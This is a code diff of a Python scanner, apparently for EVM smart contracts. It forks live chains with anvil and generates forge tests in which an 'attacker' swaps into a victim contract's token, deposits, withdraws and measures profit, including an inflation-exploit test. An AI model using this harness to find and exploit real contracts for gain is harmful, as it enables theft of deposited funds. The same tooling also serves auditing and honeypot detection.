@@ -1,15 +1,721 @@
 import os
+import json
+import re
+import shutil
 import subprocess
 import logging
 import time
-import asyncio
-from concurrent.futures import ThreadPoolExecutor
-from typing import Dict, Any, Optional, List
+import atexit
+import contextlib
+import functools
+import hashlib
+import socket
+import tempfile
+import random
+import threading
+from concurrent.futures import FIRST_COMPLETED, ThreadPoolExecutor, wait
+from typing import Dict, Any, FrozenSet, Iterator, Optional, List, Tuple
 from web3 import Web3
-from scanner.config import RPCS
+from scanner.config import RPCS, SIM_USE_ANVIL, SIM_FORK_BLOCK_TTL_SEC, SIM_MAX_WORKERS, SIM_FORGE_TIMEOUT_SEC, SIM_FORGE_TRACE, SIM_RPC_RATE, SIM_RPC_BURST
+from scanner.web3_pool import get_shared_w3, get_chain_id, checksum_address, rpc_batch
+from scanner.heuristic import dispatcher_selectors, has_opcode
+from eth_abi import encode, decode
 
 logger = logging.getLogger(__name__)
 
+_FORGE_BIN = shutil.which("forge") or "forge"
+_ANVIL_BIN = shutil.which("anvil")
+
+SELFDESTRUCT = 0xFF
+DELEGATECALL = 0xF4
+_FORGE_REMAPPINGS = "forge-std/=lib/forge-std/src/"
+
+# One artifact/cache dir shared by every worker so forge-std is compiled once per run;
+# the honeypot profile (foundry.toml) pins solc and scopes discovery to _HONEYPOT_DIR
+_FORGE_ENV = {
+    **os.environ,
+    "FOUNDRY_PROFILE": os.getenv("FOUNDRY_PROFILE", "honeypot"),
+    "FOUNDRY_OUT": os.getenv("FOUNDRY_OUT", "out-scanner"),
+}
+_FORGE_BUILT = False
+_FORGE_BUILD_LOCK = threading.Lock()
+# Caps concurrent forge children across batch workers and direct callers alike
+_FORGE_SLOTS = threading.BoundedSemaphore(max(1, SIM_MAX_WORKERS))
+# Seconds a terminated forge gets to exit before it is killed
+_FORGE_TERM_GRACE_SEC = 2.0
+
+# Generated tests stay here for the whole run; swept by cleanup_honeypot_tests() at exit
+_HONEYPOT_DIR = os.path.join("test", "_honeypots")
+
+# Session cache of forge results keyed by test content hash
+_SIM_RESULT_CACHE: Dict[str, Dict[str, Any]] = {}
+_SIM_RESULT_CACHE_MAX = 5_000
+_SIM_RESULT_CACHE_LOCK = threading.Lock()
+
+# forge output parsers, compiled once; _OUT_RE picks up every marker in one scan.
+# PROFIT_WEI is an unsigned, guarded difference; _checkProfit logs START_BAL/FINAL_BAL
+# instead and the profit is max(0, final - start). All three are plain digits.
+_OUT_RE = re.compile(
+    r"SUCCESS_METHOD: (?P<method>.*)"
+    r"|PROFIT_WEI:[ \t]*(?P<profit>\d+)"
+    r"|START_BAL:[ \t]*(?P<start>\d+)"
+    r"|FINAL_BAL:[ \t]*(?P<final>\d+)"
+    r"|\[FAIL: (?P<fail>.*?)\]"
+)
+_SELECTOR_RE = re.compile(r"SELECTOR:.*?((?:0x)[a-fA-F0-9]{8})", re.DOTALL)
+# Compiler/summary lines left out of a failure's fallback error text
+_NOISE_PREFIXES: Tuple[str, ...] = ("[", "Solc", "Compiler", "Ran 1 test", "Suite result")
+# A test's result line in text output; its section runs to the next one (reasons may hold "]")
+_TEST_LINE_RE = re.compile(
+    r"^\[(?:PASS[^\n]*?|FAIL(?:(?::|\. Reason:) (?P<reason>[^\n]*?))?)\] (?P<name>\w+)\(|^Suite result", re.MULTILINE
+)
+# Whole-token 429 only: PROFIT_WEI values, addresses and gas figures often contain "429"
+_RATE_LIMIT_RE = re.compile(r"\b429\b|Too Many Requests")
+# forge errors meaning the fork could not be read at all (the RPC, or an anvil fork's upstream, failed)
+_UPSTREAM_ERROR_RE = re.compile(
+    r"\b429\b|Too Many Requests|failed to get (?:account|storage|block)|error sending request"
+    r"|Could not instantiate forked environment|[Cc]onnection refused"
+)
+_RETRY_AFTER_RE = re.compile(r"retry[-_ ]?after\W{0,3}(\d+(?:\.\d+)?)", re.IGNORECASE)
+
+
+class AnvilForkManager:
+    """
+    One long-lived `anvil --fork-url <upstream>` per upstream RPC and scanner run.
+
+    Forge tests fork from the local node instead of the remote RPC, so state
+    fetched by one simulation is served from anvil's cache for the next ones.
+    The fork is moved to the upstream head every SIM_FORK_BLOCK_TTL_SEC so a
+    long scan does not simulate on stale state: an idle node is reset in
+    place (anvil_reset), one with simulations in flight is swapped for a
+    fresh anvil and stopped when its last lease ends.
+    """
+
+    # upstream URL -> its manager, so each chain/RPC gets a fork of its own
+    _instances: Dict[str, "AnvilForkManager"] = {}
+    _lock = threading.Lock()
+
+    def __init__(self, upstream_url: str):
+        self.upstream_url = upstream_url
+        self.port: Optional[int] = None
+        self.process: Optional[subprocess.Popen] = None
+        self.forked_at: float = 0.0
+        self._state_lock = threading.Lock()
+        # port -> simulations running against that node; replaced nodes wait here for their last one
+        self._leases: Dict[int, int] = {}
+        self._retired: Dict[int, subprocess.Popen] = {}
+
+    @classmethod
+    def instance(cls, upstream_url: Optional[str] = None) -> "AnvilForkManager":
+        upstream_url = upstream_url or RPCS[0]
+        with cls._lock:
+            manager = cls._instances.get(upstream_url)
+            if manager is None:
+                manager = cls._instances[upstream_url] = cls(upstream_url)
+            return manager
+
+    @classmethod
+    def owns(cls, url: str) -> bool:
+        """Whether url is the local endpoint of one of the running forks."""
+        with cls._lock:
+            managers = list(cls._instances.values())
+        return any(url in m._local_urls() for m in managers)
+
+    def _local_urls(self) -> List[str]:
+        """Running node plus every replaced one still leased."""
+        ports = [self.port] if self.process is not None else []
+        return [f"http://127.0.0.1:{port}" for port in ports + list(self._leases)]
+
+    @property
+    def pid(self) -> Optional[int]:
+        return self.process.pid if self.process else None
+
+    @contextlib.contextmanager
+    def lease(self) -> Iterator[Optional[str]]:
+        """
+        Local fork URL for the duration of one simulation; None if unavailable.
+
+        anvil is started on first use. A leased node is never reset or
+        stopped under the forge runs forked from it.
+        """
+        with self._state_lock:
+            port = self._live_port()
+            if port is not None:
+                self._leases[port] = self._leases.get(port, 0) + 1
+        try:
+            yield f"http://127.0.0.1:{port}" if port is not None else None
+        finally:
+            if port is not None:
+                with self._state_lock:
+                    self._leases[port] -= 1
+                    if not self._leases[port]:
+                        del self._leases[port]
+                        _stop_process(self._retired.pop(port, None))
+
+    def _live_port(self) -> Optional[int]:
+        """Port of a running, fresh enough node (caller holds _state_lock)."""
+        if self.process is None or self.process.poll() is not None:
+            return self._replace()
+        if 0 < SIM_FORK_BLOCK_TTL_SEC < time.time() - self.forked_at:
+            if self._leases.get(self.port) or not self._refork():
+                return self._replace()
+        return self.port
+
+    def _refork(self) -> bool:
+        """Re-fork the idle node at the upstream head; False if anvil rejected it."""
+        local_url = f"http://127.0.0.1:{self.port}"
+        try:
+            response = get_shared_w3(local_url).provider.make_request(
+                "anvil_reset", [{"forking": {"jsonRpcUrl": self.upstream_url}}]
+            )
+        except Exception as e:
+            logger.warning(f"anvil_reset failed, restarting fork: {e}")
+            response = {"error": str(e)}
+        with _FORK_BLOCKS_LOCK:
+            _FORK_BLOCKS.pop(local_url, None)
+        if response.get("error"):
+            return False
+        self.forked_at = time.time()
+        return True
+
+    def _replace(self) -> Optional[int]:
+        """
+        Start a fresh node in place of the current one.
+
+        The old node is stopped now if idle, else when its last lease ends.
+        If anvil cannot be started, a still running old node keeps serving.
+        """
+        node = self._spawn()
+        alive = self.process is not None and self.process.poll() is None
+        if node is None:
+            return self.port if alive else None
+        if self._leases.get(self.port):
+            self._retired[self.port] = self.process
+        else:
+            _stop_process(self.process)
+        self.process, self.port = node
+        self.forked_at = time.time()
+        return self.port
+
+    def _spawn(self, timeout: float = 15.0) -> Optional[Tuple[subprocess.Popen, int]]:
+        if not _ANVIL_BIN:
+            return None
+        with socket.socket() as sock:
+            sock.bind(("127.0.0.1", 0))
+            port = sock.getsockname()[1]
+        try:
+            process = subprocess.Popen(
+                [_ANVIL_BIN, "--fork-url", self.upstream_url, "--host", "127.0.0.1",
+                 "--port", str(port), "--silent"],
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL,
+            )
+        except Exception as e:
+            logger.warning(f"Could not start anvil fork: {e}")
+            return None
+
+        deadline = time.time() + timeout
+        while time.time() < deadline and process.poll() is None:
+            try:
+                with socket.create_connection(("127.0.0.1", port), timeout=0.5):
+                    logger.info(f"anvil fork of {self.upstream_url} listening on port {port}")
+                    return process, port
+            except OSError:
+                time.sleep(0.2)
+        _stop_process(process)
+        return None
+
+    def stop(self) -> None:
+        with self._state_lock:
+            for process in [self.process, *self._retired.values()]:
+                _stop_process(process)
+            self.process = None
+            self._retired.clear()
+
+
+def _stop_process(process: Optional[subprocess.Popen]) -> None:
+    if process is not None and process.poll() is None:
+        process.terminate()
+        try:
+            process.wait(timeout=5)
+        except subprocess.TimeoutExpired:
+            process.kill()
+
+
+def _shutdown_anvil() -> None:
+    for manager in list(AnvilForkManager._instances.values()):
+        manager.stop()
+
+
+atexit.register(_shutdown_anvil)
+
+
+@contextlib.contextmanager
+def _simulation_endpoints(rpc_url: Optional[str]) -> Iterator[List[str]]:
+    """
+    The caller's RPC followed by the configured ones, fastest first.
+
+    With SIM_USE_ANVIL the local fork of rpc_url, leased until the block
+    exits, leads the list; the remote endpoints behind it are then only
+    used when the fork's upstream fails (see _upstream_failed).
+    """
+    endpoints: List[str] = []
+    if rpc_url:
+        endpoints.append(rpc_url)
+    for e in RPCS:
+        if e not in endpoints:
+            endpoints.append(e)
+    endpoints = _rank_endpoints(endpoints)
+
+    if not SIM_USE_ANVIL:
+        yield endpoints
+        return
+    with AnvilForkManager.instance(rpc_url).lease() as local:
+        yield [local] + endpoints if local else endpoints
+
+
+# endpoint list -> (raced_at, fastest endpoint); re-raced after _FAST_RPC_TTL_SEC
+_FAST_RPC: Dict[Tuple[str, ...], Tuple[float, str]] = {}
+_FAST_RPC_TTL_SEC = 60.0
+_RACE_TIMEOUT_SEC = 10.0
+
+
+def _rank_endpoints(endpoints: List[str]) -> List[str]:
+    """
+    Put the endpoint that answers eth_blockNumber first at the front.
+
+    All endpoints are probed concurrently and the first good answer wins,
+    so a slow or throttled primary no longer delays the fallbacks; the
+    winner is remembered for _FAST_RPC_TTL_SEC and its block number seeds
+    _fork_block. The remaining endpoints keep their configured order.
+    """
+    if len(endpoints) < 2:
+        return endpoints
+    key = tuple(endpoints)
+    now = time.time()
+    fast = _FAST_RPC.get(key)
+    if fast is None or now - fast[0] >= _FAST_RPC_TTL_SEC:
+        winner = _race_endpoints(endpoints)
+        if winner is None:
+            return endpoints
+        _FAST_RPC[key] = (now, winner)
+    else:
+        winner = fast[1]
+    return [winner] + [e for e in endpoints if e != winner]
+
+
+def _race_endpoints(endpoints: List[str]) -> Optional[str]:
+    pool = ThreadPoolExecutor(max_workers=len(endpoints), thread_name_prefix="rpc-race")
+    try:
+        pending = {pool.submit(lambda ep=ep: get_shared_w3(ep).eth.block_number): ep for ep in endpoints}
+        deadline = time.time() + _RACE_TIMEOUT_SEC
+        while pending:
+            done, _ = wait(pending, timeout=max(0.0, deadline - time.time()), return_when=FIRST_COMPLETED)
+            if not done:
+                return None
+            for future in done:
+                endpoint = pending.pop(future)
+                if future.exception() is None:
+                    with _FORK_BLOCKS_LOCK:
+                        _FORK_BLOCKS[endpoint] = (time.time(), future.result())
+                    return endpoint
+        return None
+    finally:
+        # Losers finish in the background; nothing waits on them
+        pool.shutdown(wait=False, cancel_futures=True)
+
+# endpoint -> (resolved_at, block number)
+_FORK_BLOCKS: Dict[str, Tuple[float, int]] = {}
+_FORK_BLOCKS_LOCK = threading.Lock()
+
+
+def _fork_block(endpoint: str) -> Optional[int]:
+    """
+    Block to pin simulation forks to, re-resolved every SIM_FORK_BLOCK_TTL_SEC.
+
+    forge only caches fork storage for an explicit block number, so pinning
+    lets consecutive simulations on the same endpoint share that cache and
+    keeps the SIM_FORK_BLOCK part of the result-cache key stable.
+    """
+    if SIM_FORK_BLOCK_TTL_SEC <= 0:
+        return None
+    now = time.time()
+    with _FORK_BLOCKS_LOCK:
+        entry = _FORK_BLOCKS.get(endpoint)
+    if entry is not None and now - entry[0] < SIM_FORK_BLOCK_TTL_SEC:
+        return entry[1]
+    try:
+        block = get_shared_w3(endpoint).eth.block_number
+    except Exception:
+        return entry[1] if entry else None
+    with _FORK_BLOCKS_LOCK:
+        _FORK_BLOCKS[endpoint] = (now, block)
+    return block
+
+
+class _RpcBucket:
+    """
+    Token bucket pacing forge runs against one RPC endpoint (AIMD rate).
+
+    A 429 halves the refill rate, empties the bucket and blocks the
+    endpoint for an exponentially growing hold (or the server's
+    Retry-After); every clean run adds _RPC_RATE_STEP back, up to
+    SIM_RPC_RATE, and resets the hold. Waiters sleep with jitter so they
+    do not all retry at the same instant.
+    """
+
+    def __init__(self, rate: float, burst: int) -> None:
+        self.rate = rate
+        self.burst = max(1, burst)
+        self.tokens = float(self.burst)
+        self.updated = time.monotonic()
+        self.blocked_until = 0.0
+        self.strikes = 0
+        self.lock = threading.Lock()
+
+    def _refill(self, now: float) -> None:
+        self.tokens = min(self.burst, self.tokens + (now - self.updated) * self.rate)
+        self.updated = now
+
+    def acquire(self) -> None:
+        while True:
+            with self.lock:
+                now = time.monotonic()
+                if now < self.blocked_until:
+                    wait_sec = self.blocked_until - now
+                else:
+                    self._refill(now)
+                    if self.tokens >= 1:
+                        self.tokens -= 1
+                        return
+                    wait_sec = (1 - self.tokens) / self.rate
+            time.sleep(wait_sec + random.uniform(0, _RPC_JITTER_SEC))
+
+    def try_acquire(self) -> bool:
+        """Take a token only if one is free right now; never sleeps."""
+        with self.lock:
+            now = time.monotonic()
+            if now < self.blocked_until:
+                return False
+            self._refill(now)
+            if self.tokens < 1:
+                return False
+            self.tokens -= 1
+            return True
+
+    def throttled(self, retry_after: Optional[float] = None) -> float:
+        """Back off after a 429; returns the hold in seconds."""
+        with self.lock:
+            now = time.monotonic()
+            self._refill(now)
+            self.rate = max(_RPC_RATE_MIN, self.rate * 0.5)
+            self.tokens = 0.0
+            hold = min(_RPC_BACKOFF_MAX_SEC, _RPC_BACKOFF_BASE_SEC * 2 ** self.strikes)
+            if retry_after is not None:
+                hold = min(_RPC_BACKOFF_MAX_SEC, retry_after)
+            self.strikes += 1
+            self.blocked_until = max(self.blocked_until, now + hold)
+            return hold
+
+    def succeeded(self) -> None:
+        with self.lock:
+            self.rate = min(SIM_RPC_RATE, self.rate + _RPC_RATE_STEP)
+            self.strikes = 0
+
+
+_RPC_RATE_MIN = 0.2
+_RPC_RATE_STEP = 0.5
+_RPC_BACKOFF_BASE_SEC = 0.5
+_RPC_BACKOFF_MAX_SEC = 30.0
+_RPC_JITTER_SEC = 0.25
+# endpoint -> bucket shared by every worker simulating against it
+_RPC_BUCKETS: Dict[str, _RpcBucket] = {}
+_RPC_BUCKETS_LOCK = threading.Lock()
+
+
+def _rpc_bucket(endpoint: str) -> _RpcBucket:
+    bucket = _RPC_BUCKETS.get(endpoint)
+    if bucket is None:
+        with _RPC_BUCKETS_LOCK:
+            bucket = _RPC_BUCKETS.setdefault(endpoint, _RpcBucket(SIM_RPC_RATE, SIM_RPC_BURST))
+    return bucket
+
+
+def _is_rate_limited(result: Dict[str, Any]) -> bool:
+    return any(_RATE_LIMIT_RE.search(result.get(field) or "") for field in ("error", "output"))
+
+
+def _upstream_failed(results: Dict[str, Dict[str, Any]]) -> bool:
+    """Whether every scenario of a run failed on the RPC rather than in the test itself."""
+    return bool(results) and all(_UPSTREAM_ERROR_RE.search(result.get("error") or "") for result in results.values())
+
+
+def _retry_after(results: List[Dict[str, Any]]) -> Optional[float]:
+    """Longest Retry-After hint (seconds) quoted in the results' error/output, if any."""
+    hints = [
+        float(m.group(1))
+        for result in results for field in ("error", "output")
+        for m in _RETRY_AFTER_RE.finditer(result.get(field) or "")
+    ]
+    return max(hints) if hints else None
+
+
+def _run_forge_paced(content: str, test_labels: Dict[str, str], env: Optional[Dict[str, str]] = None) -> Dict[str, Dict[str, Any]]:
+    """
+    _run_forge_files behind the token bucket of env's SIM_RPC_URL.
+
+    The outcome feeds the bucket back: any rate-limited result slows the
+    endpoint down, a clean run speeds it up again.
+    """
+    endpoint = (env or {}).get("SIM_RPC_URL")
+    if not endpoint:
+        return _run_forge_files(content, test_labels, env)
+    bucket = _rpc_bucket(endpoint)
+    bucket.acquire()
+    results = _run_forge_files(content, test_labels, env)
+    if any(_is_rate_limited(result) for result in results.values()):
+        hold = bucket.throttled(_retry_after(list(results.values())))
+        logger.warning(f"RPC 429 from {endpoint}; holding it for {hold:.1f}s, then pacing at {bucket.rate:.2f}/s")
+    else:
+        bucket.succeeded()
+    return results
+
+
+# Swap ladder order in the token template when no pool could be resolved
+_DEFAULT_FEE_TIERS: Tuple[int, int, int] = (3000, 500, 10000)
+_V3_FEE_TIERS: Tuple[int, ...] = (100, 500, 3000, 10000)
+_FACTORY_SELECTOR = bytes.fromhex("c45a0155")    # factory()
+_GET_POOL_SELECTOR = bytes.fromhex("1698ee82")   # getPool(address,address,uint24)
+_LIQUIDITY_SELECTOR = bytes.fromhex("1a686502")  # liquidity()
+_ZERO_WORD = b"\x00" * 32
+
+# (chain_id, router, token, weth) -> ordered fee tiers
+_FEE_TIER_CACHE: Dict[Tuple[int, str, str, str], Tuple[int, int, int]] = {}
+_FEE_TIER_CACHE_MAX = 4096
+
+
+def _resolve_v3_fee_tiers(w3: Web3, router: str, token: str, weth: str) -> Tuple[int, int, int]:
+    """
+    Order the template's swap fee tiers so the deepest UniswapV3 pool comes first.
+
+    The generated test tries exactInputSingle per tier inside try/catch; each
+    miss is a reverted call on the fork. Asking the router's factory for the
+    token/WETH pool of every tier (and its liquidity) up front lets the first
+    attempt hit. Falls back to the template's default order on any error.
+
+    Args:
+        w3: Web3 instance for the chain being simulated
+        router: UniswapV3 SwapRouter address
+        token: Token address
+        weth: WETH address
+
+    Returns:
+        Three fee tiers: those with a pool by liquidity, then the defaults
+    """
+    if not token or not weth or token.lower() == weth.lower():
+        return _DEFAULT_FEE_TIERS
+    try:
+        key = (get_chain_id(w3), router.lower(), token.lower(), weth.lower())
+    except Exception:
+        return _DEFAULT_FEE_TIERS
+    cached = _FEE_TIER_CACHE.get(key)
+    if cached is not None:
+        return cached
+
+    try:
+        raw = w3.eth.call({"to": Web3.to_checksum_address(router), "data": "0x" + _FACTORY_SELECTOR.hex()})
+        factory = Web3.to_checksum_address(decode(["address"], bytes(raw))[0])
+
+        liquidity_by_fee: Dict[int, int] = {}
+        for fee in _V3_FEE_TIERS:
+            data = _GET_POOL_SELECTOR + encode(["address", "address", "uint24"], [token, weth, fee])
+            raw = bytes(w3.eth.call({"to": factory, "data": "0x" + data.hex()}))
+            if len(raw) < 32 or raw[:32] == _ZERO_WORD:
+                continue
+            pool = Web3.to_checksum_address(decode(["address"], raw)[0])
+            raw = w3.eth.call({"to": pool, "data": "0x" + _LIQUIDITY_SELECTOR.hex()})
+            liquidity = decode(["uint128"], bytes(raw))[0]
+            if liquidity > 0:
+                liquidity_by_fee[fee] = liquidity
+    except Exception as e:
+        logger.debug(f"Fee tier resolution failed for {token}: {e}")
+        return _DEFAULT_FEE_TIERS
+
+    # Tiers with a pool, deepest first, topped up with the default order
+    ranked = sorted(liquidity_by_fee, key=liquidity_by_fee.__getitem__, reverse=True)
+    ranked += [f for f in _DEFAULT_FEE_TIERS if f not in liquidity_by_fee]
+    tiers = (ranked[0], ranked[1], ranked[2])
+    if len(_FEE_TIER_CACHE) >= _FEE_TIER_CACHE_MAX:
+        _FEE_TIER_CACHE.clear()
+    _FEE_TIER_CACHE[key] = tiers
+    return tiers
+
+
+# A fallback rung of a selector ladder: `if (!ok) (ok, ...) = victim.call[{value: ..}](abi.encodeWithSelector(bytes4(0x..)...));`
+_LADDER_RUNG_RE = re.compile(
+    r"^[ \t]*if \(!(\w+)\) \(\1,[^)]*\) = victim\.call(?:\{[^}]*\})?"
+    r"\(abi\.encodeWithSelector\(bytes4\((0x[0-9a-f]{8})\).*;[ \t]*(?://.*)?\n",
+    re.MULTILINE,
+)
+
+# (chain_id, lowercase address) -> (fetched_at, runtime code); the self-destruct scan and
+# the dispatcher pruning both read the victim's code, this makes it one eth_getCode
+_CODE_CACHE: Dict[Tuple[int, str], Tuple[float, bytes]] = {}
+_CODE_CACHE_MAX = 1024
+_CODE_CACHE_LOCK = threading.Lock()
+# Code and everything derived from it is re-read after this long: a CREATE2 address can
+# selfdestruct and be redeployed with different code under the same key
+_CODE_TTL_SEC = 300.0
+
+
+def _get_code(w3: Web3, address: str) -> bytes:
+    """
+    Runtime code of `address`, fetched once per (chain, address) per _CODE_TTL_SEC.
+
+    Raises whatever the RPC call raises; failures are not cached.
+    """
+    key = (get_chain_id(w3), address.lower())
+    with _CODE_CACHE_LOCK:
+        entry = _CODE_CACHE.get(key)
+    if entry is not None and time.time() - entry[0] < _CODE_TTL_SEC:
+        return entry[1]
+    code = bytes(w3.eth.get_code(checksum_address(address)))
+    _store_code(key, code)
+    return code
+
+
+def _store_code(key: Tuple[int, str], code: bytes) -> None:
+    with _CODE_CACHE_LOCK:
+        if len(_CODE_CACHE) >= _CODE_CACHE_MAX:
+            _CODE_CACHE.clear()
+        _CODE_CACHE[key] = (time.time(), code)
+
+
+# (chain_id, lowercase address) -> (scanned_at, selectors found in the dispatcher)
+_DISPATCH_CACHE: Dict[Tuple[int, str], Tuple[float, FrozenSet[str]]] = {}
+_DISPATCH_CACHE_MAX = 4096
+
+
+def _victim_selectors(w3: Web3, address: str) -> FrozenSet[str]:
+    """
+    Public selectors of `address` from its runtime dispatcher.
+
+    Empty (meaning: do not prune) when the code cannot be read or contains
+    DELEGATECALL, since a proxy's own dispatcher says nothing about the
+    functions it forwards, and when the dispatcher is not a linear PUSH4/EQ
+    chain, since the scan may then have missed selectors.
+    """
+    try:
+        key = (get_chain_id(w3), address.lower())
+    except Exception:
+        return frozenset()
+    cached = _DISPATCH_CACHE.get(key)
+    if cached is not None and time.time() - cached[0] < _CODE_TTL_SEC:
+        return cached[1]
+    try:
+        code = _get_code(w3, address)
+        if not code or has_opcode(code, DELEGATECALL):
+            selectors = frozenset()
+        else:
+            found, complete = dispatcher_selectors(code.hex())
+            selectors = frozenset(found) if complete else frozenset()
+    except Exception:
+        return frozenset()
+    if len(_DISPATCH_CACHE) >= _DISPATCH_CACHE_MAX:
+        _DISPATCH_CACHE.clear()
+    _DISPATCH_CACHE[key] = (time.time(), selectors)
+    return selectors
+
+
+def _prune_selector_ladders(content: str, selectors: FrozenSet[str]) -> str:
+    """
+    Drop fallback calls to functions the victim's dispatcher does not have.
+
+    The tests try deposit()/mint()/stake()/... one after another; every
+    missing function is a reverted CALL on the fork. Only the `if (!ok)`
+    rungs are removed, the first call of each ladder always stays, and
+    nothing is pruned unless the dispatcher scan is known to be complete
+    (see _victim_selectors).
+    """
+    if not selectors:
+        return content
+    return _LADDER_RUNG_RE.sub(lambda m: m.group(0) if m.group(2) in selectors else "", content)
+
+
+# A fallback rung without trailing comment: indent, flag, {value}, selector, extra args
+_LOOP_RUNG_RE = re.compile(
+    r"([ \t]*)if \(!(\w+)\) \(\2, \) = victim\.call(\{[^}]*\})?"
+    r"\(abi\.encodeWithSelector\(bytes4\((0x[0-9a-f]{8})\)(.*)\)\);[ \t]*\n"
+)
+_LOOP_MIN_RUNGS = 3
+
+
+def _loop_selector_ladders(content: str) -> str:
+    """
+    Fold runs of same-shaped fallback rungs into one selector-table loop.
+
+    Consecutive `if (!ok) (ok, ) = victim.call(abi.encodeWithSelector(...))`
+    lines that differ only in the selector become a bytes4[N] literal and a
+    single call site, so solc emits one CALL sequence instead of N. Call
+    order and the stop-at-first-success behaviour are unchanged.
+    """
+    lines = content.splitlines(keepends=True)
+    out: List[str] = []
+    i = 0
+    while i < len(lines):
+        m = _LOOP_RUNG_RE.fullmatch(lines[i])
+        if m is None:
+            out.append(lines[i])
+            i += 1
+            continue
+        shape = m.group(1, 2, 3, 5)
+        selectors = [m.group(4)]
+        j = i + 1
+        while j < len(lines):
+            nxt = _LOOP_RUNG_RE.fullmatch(lines[j])
+            if nxt is None or nxt.group(1, 2, 3, 5) != shape:
+                break
+            selectors.append(nxt.group(4))
+            j += 1
+        if len(selectors) < _LOOP_MIN_RUNGS:
+            out.extend(lines[i:j])
+        else:
+            indent, flag, value, args = shape
+            table = ", ".join(f"bytes4({sel})" for sel in selectors)
+            out.append(
+                f"{indent}if (!{flag}) {{\n"
+                f"{indent}    bytes4[{len(selectors)}] memory _sels = [{table}];\n"
+                f"{indent}    for (uint256 _k = 0; _k < {len(selectors)} && !{flag}; _k++) "
+                f"({flag}, ) = victim.call{value or ''}(abi.encodeWithSelector(_sels[_k]{args}));\n"
+                f"{indent}}}\n"
+            )
+        i = j
+    return "".join(out)
+
+
+def _prefetch_accounts(endpoint: str, addresses: List[str]) -> None:
+    """
+    Warm the local anvil fork with the accounts a simulation will touch.
+
+    forge's fork backend loads balance, nonce and code for each account one
+    round-trip at a time; asking anvil for all of them in a single JSON-RPC
+    batch first lets it fetch them from upstream together, so the test
+    itself only hits anvil's local cache. Remote endpoints are left alone:
+    nothing is cached there that forge would reuse.
+    """
+    if not endpoint.startswith("http://127.0.0.1:"):
+        return
+    calls = []
+    for address in dict.fromkeys(a for a in addresses if a):
+        calls.append(("eth_getCode", [address, "latest"]))
+        calls.append(("eth_getBalance", [address, "latest"]))
+        calls.append(("eth_getTransactionCount", [address, "latest"]))
+    try:
+        rpc_batch(endpoint, calls)
+    except Exception as e:
+        logger.debug(f"Fork prefetch failed: {e}")
+
+
 HONEYPOT_TEST_TEMPLATE = """
 // SPDX-License-Identifier: MIT
 pragma solidity ^0.8.0;
@@ -46,14 +752,22 @@ interface IRouter {
 }
 
 contract HoneypotTestToken is Test {
-    address victim = <VICTIM_ADDRESS>;
-    address token = <TOKEN_ADDRESS>;
-    address weth = <WETH_ADDRESS>; 
-    address router = <ROUTER_ADDRESS>;
+    address victim;
+    address token;
+    address weth;
+    address router;
     address attacker = address(0x1337);
     
     function setUp() public {
-        vm.createSelectFork("<RPC_URL>");
+        // Addresses, RPC and fork block come from the environment (see _honeypot_env),
+        // so the source and its compiled artifact are shared between victims and endpoints
+        victim = vm.envAddress("SIM_VICTIM");
+        token = vm.envAddress("SIM_TOKEN");
+        weth = vm.envAddress("SIM_WETH");
+        router = vm.envAddress("SIM_ROUTER");
+        uint256 forkBlock = vm.envOr("SIM_FORK_BLOCK", uint256(0));
+        if (forkBlock == 0) vm.createSelectFork(vm.envString("SIM_RPC_URL"));
+        else vm.createSelectFork(vm.envString("SIM_RPC_URL"), forkBlock);
         vm.label(victim, "Victim");
         vm.label(token, "Token");
         vm.label(attacker, "Attacker");
@@ -65,22 +779,14 @@ contract HoneypotTestToken is Test {
             require(s, "Wrap failed");
             IERC20(weth).approve(router, startEth);
             
-            try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                tokenIn: weth, tokenOut: token, fee: 3000, recipient: attacker,
-                deadline: block.timestamp, amountIn: startEth, amountOutMinimum: 0, sqrtPriceLimitX96: 0
-            })) returns (uint256 a) { return a; } catch {
+            uint24[3] memory swapFees = [uint24(${FEE_TIER_1}), uint24(${FEE_TIER_2}), uint24(${FEE_TIER_3})];
+            for (uint256 fi = 0; fi < 3; fi++) {
                 try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                    tokenIn: weth, tokenOut: token, fee: 500, recipient: attacker,
+                    tokenIn: weth, tokenOut: token, fee: swapFees[fi], recipient: attacker,
                     deadline: block.timestamp, amountIn: startEth, amountOutMinimum: 0, sqrtPriceLimitX96: 0
-                })) returns (uint256 b) { return b; } catch {
-                    try IRouter(router).exactInputSingle(IRouter.ExactInputSingleParams({
-                        tokenIn: weth, tokenOut: token, fee: 10000, recipient: attacker,
-                        deadline: block.timestamp, amountIn: startEth, amountOutMinimum: 0, sqrtPriceLimitX96: 0
-                    })) returns (uint256 c) { return c; } catch {
-                        revert("Swap ETH->Token failed");
-                    }
-                }
+                })) returns (uint256 a) { return a; } catch {}
             }
+            revert("Swap ETH->Token failed");
         } else {
             (bool s, ) = weth.call{value: startEth}("");
             require(s, "Wrap failed");
@@ -88,9 +794,8 @@ contract HoneypotTestToken is Test {
         }
     }
 
-    function testInflationExploit() public {
+    function _testInflationExploit(uint256 startEth) internal {
         vm.startPrank(attacker);
-        uint256 startEth = 10 ether;
         vm.deal(attacker, startEth);
         
         // 1. Get Tokens
@@ -163,11 +868,10 @@ contract HoneypotTestToken is Test {
     function testSafeCycleToken() public {
         vm.startPrank(attacker);
         console.log("Contract ETH Balance:", address(victim).balance);
-        <SEQUENCER_FEE_LOGIC>
+        ${SEQUENCER_FEE_LOGIC}
 
         uint256 startEth = 20 ether;
         vm.deal(attacker, startEth); 
-        console.log("Flash Loan Mode: 20 ETH simulated");
         uint256 ethBalBefore = attacker.balance;
 
         // 2. Swap ETH -> Token
@@ -175,7 +879,7 @@ contract HoneypotTestToken is Test {
         console.log("[SIM] Got tokens:", tokenAmount);
 
         // 3. Approve & Deposit
-        <ROUNDING_LOGIC>
+        ${ROUNDING_LOGIC}
 
         IERC20(token).approve(victim, tokenAmount);
         bool success;
@@ -201,10 +905,10 @@ contract HoneypotTestToken is Test {
         
         if (!success) (success, ) = victim.call{value: 1 wei}("");
 
-        <SELF_DESTRUCT_LOGIC>
+        ${SELF_DESTRUCT_LOGIC}
         
         require(success, "Deposit failed (tried all variants)");
-        <TIMESTAMP_WARP_LOGIC>
+        ${TIMESTAMP_WARP_LOGIC}
 
         // 4. Withdraw
         (success, ) = victim.call(abi.encodeWithSignature("withdraw(uint256)", tokenAmount));
@@ -224,7 +928,7 @@ contract HoneypotTestToken is Test {
         }
 
 
-        <DEEP_SEARCH_LOGIC>
+        ${DEEP_SEARCH_LOGIC}
 
         require(success, "Withdraw failed");
 
